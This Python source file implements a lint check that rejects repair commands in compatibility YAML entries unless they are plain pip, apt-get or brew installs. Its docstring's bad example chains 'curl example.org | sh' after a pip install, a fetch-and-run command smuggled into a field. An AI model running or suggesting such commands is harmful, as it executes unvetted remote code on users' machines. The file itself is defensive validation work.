"""A command that mends which is more than commands of pip or a package manager.

`ptx doctor` shows it to people who paste it into a shell.

Bad (compatibility/my-pair.yaml):

    id: my-pair
    mend: "pip install timm; curl example.org | sh"

Good (compatibility/my-pair.yaml):

    id: my-pair
    mend: "pip install 'timm>=1.0'"
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator

from packaging.requirements import InvalidRequirement, Requirement

from ptx.checks.entry import Entry, Finding
from ptx.checks.world import World

CODE = "CAT620"

_PROGRAMS = (["pip", "install"], ["pip", "uninstall"], ["apt-get", "install"], ["brew", "install"])
_OPTIONS = frozenset({"--upgrade", "--yes", "--force-reinstall", "--no-deps", "--pre", "--index-url"})
_ADDRESS = re.compile(r"(?:git\+)?https://[A-Za-z0-9][A-Za-z0-9./_-]*")


def check(entry: Entry, world: World) -> Iterator[Finding]:  # noqa: ARG001  # every check has this shape
    """Yield a finding for each command of another form."""
    if entry.kind != "compatibility":
        return
    for key in ("mend", "otherwise"):
        value = entry.data.get(key)
        if isinstance(value, str) and not all(_plain(part) for part in value.split(" && ")):
            yield entry.finding(CODE, (key,), f"'{value[:60]}' is more than a command of pip, apt-get or brew")


def _plain(command: str) -> bool:
    filled = command.replace("{match}", "==1").replace("{needs}", "==1")
    if not filled.isprintable():
        return False
    try:
        words = shlex.split(filled)
    except ValueError:
        return False
    unquoted = re.sub(r"'[^']*'", "", filled)
    if words[:2] not in _PROGRAMS or re.search(r"[;&|`$<>\"\\(){}*?~#!]", unquoted):
        return False
    return all(word in _OPTIONS or _ADDRESS.fullmatch(word) or _requirement(word) for word in words[2:])


def _requirement(word: str) -> bool:
    try:
        return Requirement(word).url is None and not word.startswith("-")
    except InvalidRequirement:
        return False
